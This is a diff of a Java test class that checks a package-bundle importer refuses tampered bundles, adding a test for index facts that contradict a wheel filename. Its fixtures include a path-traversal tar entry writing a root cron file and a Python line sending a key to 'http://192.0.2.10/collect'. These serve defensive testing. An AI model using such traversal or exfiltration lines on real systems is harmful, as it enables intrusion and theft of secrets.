@@ -109,6 +109,20 @@ class BundleTamperTest {
     }
 
     @Test
+    void indexFactsThatContradictAFilenameAreRefused() throws Exception {
+        Path hostileDir = Files.createDirectories(dir.resolve("contradicted"));
+        Path wheel = Wheels.wheel(hostileDir, "acme-other", "1.0");
+        Path signing = dir.resolve("contradicting-key");
+        Path bundle = craft(signing, wheel, "acme-report");
+        try (SluiceHarness closed = closedTrusting("contradicted", SigningKey.at(signing).publicText(), false)) {
+            CommandLineRun run = importInto(closed, bundle, false);
+            assertThat(run.err()).contains("nothing was imported: the index facts of acme-report list"
+                    + " acme_other-1.0-py3-none-any.whl as version 1.0 (bdist_wheel), which its filename contradicts");
+            assertNothingHeld(closed);
+        }
+    }
+
+    @Test
     void anAddedMemberIsRefused() throws Exception {
         Map<String, byte[]> more = new LinkedHashMap<>(genuine);
         more.put("../../etc/cron.d/payload", "* * * * * root true\n".getBytes(java.nio.charset.StandardCharsets.UTF_8));
@@ -166,7 +180,7 @@ class BundleTamperTest {
                     urllib.request.urlopen('http://192.0.2.10/collect', data=key.encode())
                 """));
         Path signing = dir.resolve("crafted-key");
-        Path bundle = craft(signing, hostile);
+        Path bundle = craft(signing, hostile, "acme-report");
         try (SluiceHarness closed = closedTrusting("inspected", SigningKey.at(signing).publicText(), false)) {
             CommandLineRun run = importInto(closed, bundle, false);
             assertThat(run.exitCode()).as(run.err()).isZero();
@@ -176,21 +190,21 @@ class BundleTamperTest {
     }
 
     /** A bundle made by hand (as another tool could), holding one file, signed with a key of this test's. */
-    private static Path craft(Path signingKey, Path wheel) throws IOException {
+    private static Path craft(Path signingKey, Path wheel, String project) throws IOException {
         byte[] bytes = Files.readAllBytes(wheel);
         Digests d = Digests.of(bytes);
         String name = wheel.getFileName().toString();
         DistributionFile file = new DistributionFile(name, "1.0", "bdist_wheel", "py3", bytes.length, d.sha256(), d.md5(),
                 d.blake2b256(), null, false, null, Instant.parse("2026-01-02T03:04:05Z"), false, null);
-        byte[] facts = new IndexFacts("acme-report", List.of(file)).toJson();
+        byte[] facts = new IndexFacts(project, List.of(file)).toJson();
         Manifest manifest = new Manifest(Manifest.FORMAT, Instant.now(), SigningKey.at(signingKey).publicText(), "crafted", -1,
-                List.of(), List.of(), List.of(new Manifest.Member("index/acme-report.json", Digests.of(facts).sha256()),
+                List.of(), List.of(), List.of(new Manifest.Member("index/" + project + ".json", Digests.of(facts).sha256()),
                         new Manifest.Member("files/" + name, d.sha256())));
         byte[] json = manifest.toJson();
         Map<String, byte[]> members = new LinkedHashMap<>();
         members.put(Manifest.PATH, json);
         members.put(Manifest.SIGNATURE_PATH, java.util.Base64.getEncoder().encode(SigningKey.at(signingKey).sign(json)));
-        members.put("index/acme-report.json", facts);
+        members.put("index/" + project + ".json", facts);
         members.put("files/" + name, bytes);
         return tar("crafted", members);
     }
